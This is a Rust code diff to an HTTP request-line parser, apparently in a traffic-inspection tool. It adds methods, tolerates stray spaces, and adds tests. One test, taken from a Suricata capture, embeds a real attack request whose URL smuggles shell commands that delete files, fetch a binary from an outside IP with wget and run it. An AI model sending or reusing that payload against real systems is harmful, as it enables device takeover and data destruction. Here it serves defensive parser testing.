@@ -31,6 +31,11 @@ pub const METHODS: &[&[u8]] = &[
     b"LOCK",
     b"UNLOCK",
     b"REPORT",
+    b"SEARCH",
+    // Outlook Anywhere (RPC over HTTP) and Configuration Manager clients.
+    b"RPC_IN_DATA",
+    b"RPC_OUT_DATA",
+    b"CCM_POST",
 ];
 
 /// Whether `payload` starts like an HTTP request: a method of [`METHODS`], one space and
@@ -40,8 +45,9 @@ pub fn is_http_request_start(payload: &[u8]) -> bool {
         payload.starts_with(m)
             && payload.get(m.len()) == Some(&b' ')
             && payload
-                .get(m.len() + 1)
-                .is_none_or(|&c| c.is_ascii_graphic())
+                .get(m.len()..)
+                .and_then(|rest| rest.iter().find(|&&c| c != b' '))
+                .is_none_or(|c| c.is_ascii_graphic())
     })
 }
 
@@ -120,7 +126,8 @@ impl<'a> RequestHead<'a> {
     /// only `Host` names the server.
     pub fn target_authority(&self) -> Option<&'a [u8]> {
         match self.target_form() {
-            TargetForm::Authority => Some(self.target),
+            // `CONNECT /` and the like name no authority; `Host` may.
+            TargetForm::Authority => (!self.target.contains(&b'/')).then_some(self.target),
             TargetForm::Absolute => {
                 let rest = self.target.get(scheme_len(self.target)?..)?;
                 let end = rest
@@ -159,6 +166,12 @@ impl<'a> RequestHead<'a> {
     pub fn host_or_authority(&self) -> Option<&[u8]> {
         self.target_authority().or(self.host.as_deref())
     }
+}
+
+fn trim_spaces(b: &[u8]) -> &[u8] {
+    let start = b.iter().position(|&c| c != b' ').unwrap_or(b.len());
+    let end = b.iter().rposition(|&c| c != b' ').map_or(start, |i| i + 1);
+    &b[start..end]
 }
 
 /// The length of `http://` or `https://` (any case) at the start of `target`.
@@ -245,14 +258,25 @@ pub fn parse_request_head(payload: &[u8]) -> Result<RequestHead<'_>, HttpError> 
             });
         }
     };
-    let mut parts = line.split(|&c| c == b' ').filter(|p| !p.is_empty());
-    let method = parts.next().ok_or(HttpError::NotRequest)?;
-    let target = parts.next().ok_or(HttpError::NotRequest)?;
-    let version = parts.next();
-    if parts.next().is_some()
+    let line = trim_spaces(line);
+    let sp = memchr::memchr(b' ', line).ok_or(HttpError::NotRequest)?;
+    let method = &line[..sp];
+    let after = trim_spaces(&line[sp..]);
+    // The version is the last word when it looks like one; spaces left inside the target
+    // (attack tools and broken clients send them) stay part of it, as servers read it.
+    let (target, version) = match memchr::memrchr(b' ', after) {
+        Some(i) if after[i + 1..].starts_with(b"HTTP/") => {
+            (trim_spaces(&after[..i]), Some(&after[i + 1..]))
+        }
+        Some(_) => return Err(HttpError::NotRequest),
+        None => (after, None),
+    };
+    if method.is_empty()
+        || target.is_empty()
         || !method.iter().all(|&c| is_token_char(c))
-        || !target.iter().all(|&c| c.is_ascii_graphic() || c >= 0x80)
-        || version.is_some_and(|v| !v.starts_with(b"HTTP/"))
+        || !target
+            .iter()
+            .all(|&c| c.is_ascii_graphic() || c >= 0x80 || c == b' ')
     {
         return Err(HttpError::NotRequest);
     }
@@ -265,8 +289,9 @@ pub fn parse_request_head(payload: &[u8]) -> Result<RequestHead<'_>, HttpError> 
         partial: true,
         head_len: None,
     };
-    if version.is_none() {
-        // HTTP/0.9: the request is the one line.
+    if version.is_none() && rest.is_empty() {
+        // HTTP/0.9: the request is the one line. (A request line missing its version
+        // but followed by header lines, as broken clients send, is read on.)
         head.partial = false;
         head.head_len = Some(payload.len() - rest.len());
         return Ok(head);
@@ -575,15 +600,44 @@ mod tests {
     }
 
     #[test]
+    fn spaces_inside_the_target_stay_in_it() {
+        // suricata-verify bug-5437-01.pcap (MIT), frame 1 (ERSPAN): tshark 4.0.17 reads
+        // http.host 127.0.0.1:80 and the whole target up to " HTTP/1.1".
+        let h = head(b"GET /shell?cd+/tmp;rm+-rf+*;wget+ http://23.94.7.175/.s4y/arm;sh+/tmp/arm HTTP/1.1\r\nHost: 127.0.0.1:80\r\n\r\n");
+        assert_eq!(h.method, b"GET");
+        assert_eq!(
+            h.target,
+            &b"/shell?cd+/tmp;rm+-rf+*;wget+ http://23.94.7.175/.s4y/arm;sh+/tmp/arm"[..]
+        );
+        assert_eq!(h.version, Some(&b"HTTP/1.1"[..]));
+        assert_eq!(h.host_or_authority(), Some(&b"127.0.0.1:80"[..]));
+        let h = head(b"GET        /a HTTP/1.1\r\nHost: www.lan:8080\r\n\r\n");
+        assert_eq!(
+            (h.target, h.host_or_authority()),
+            (&b"/a"[..], Some(&b"www.lan:8080"[..]))
+        );
+        assert_eq!(
+            parse_request_head(b"GET /a b c\r\n\r\n"),
+            Err(HttpError::NotRequest)
+        );
+    }
+
+    #[test]
     fn request_start_and_rejects() {
-        for ok in [&b"GET /"[..], b"POST ", b"PROPFIND /x", b"CONNECT a:443"] {
+        // Extra spaces before the target are read as servers read them.
+        for ok in [
+            &b"GET /"[..],
+            b"POST ",
+            b"PROPFIND /x",
+            b"CONNECT a:443",
+            b"GET  /",
+        ] {
             assert!(is_http_request_start(ok), "{ok:?}");
         }
         for no in [
             &b"GET"[..],
             b"GETX /",
             b"get /",
-            b"GET  /",
             b"HTTP/1.1 200 OK",
             b"\x16\x03\x01",
             b"",
